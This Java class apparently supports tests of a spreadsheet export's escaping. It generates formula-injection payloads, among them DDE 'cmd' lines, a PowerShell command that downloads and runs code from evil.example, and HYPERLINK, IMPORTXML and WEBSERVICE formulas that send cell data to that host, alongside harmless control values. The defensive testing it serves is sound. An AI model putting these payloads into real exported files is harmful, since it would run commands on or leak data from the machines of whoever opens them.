package io.seatledger.query.export;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** Text that somebody may type so that it does something in somebody else's spreadsheet. */
final class FormulaPayloads {
    private static final List<String> STARTERS =
            List.of("=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "\uFE66", "\uFE62", "\uFE63", "\uFE6B");

    private static final List<String> BEFORE = List.of(
            "", " ", "\t", "\r", "\n", "\r\n", "\u00A0", "\u3000", "\uFEFF", "\u200B", "\"", "'", "\"'", " \" ");

    private static final List<String> FORMS = List.of(
            "1+1",
            "cmd|'/C calc'!A0",
            "cmd|'/c powershell IEX(wget evil.example/x)'!A1",
            "HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")",
            "IMPORTXML(CONCAT(\"https://evil.example/?\",A1:Z9),\"//a\")",
            "IMPORTDATA(\"https://evil.example\")",
            "WEBSERVICE(\"https://evil.example/\"&A1)",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "SUM(1,2)*cmd|'/C calc'!A0",
            "A1,=1+1;=1+1\n=1+1",
            "\"\",=cmd|'/C calc'!A0,\"\"",
            "\";\"=1+1");

    private static final List<String> INNOCENT = List.of(
            "Ada",
            "a=b",
            "O'Hara",
            "\"quoted\"",
            "PO-17",
            "3-4 weeks",
            "",
            " ",
            "#1",
            "_x003D_1+1",
            "日本語",
            "a,b;c\r\nd",
            "😀");

    private FormulaPayloads() {}

    /** Each starter after each of what some programs overlook, in every form. */
    static List<String> all() {
        Set<String> all = new LinkedHashSet<>();
        for (String starter : STARTERS) {
            for (String before : BEFORE) {
                FORMS.forEach(form -> all.add(before + starter + form));
            }
            all.add(starter);
            all.add(starter + starter + "1");
        }
        List.of("\tplain", "\rplain", "\nplain", "\u0000plain", "-1", "+1.5e3", "-2+3", "\u2212 1")
                .forEach(all::add);
        return new ArrayList<>(all);
    }

    static List<String> innocent() {
        return INNOCENT;
    }
}
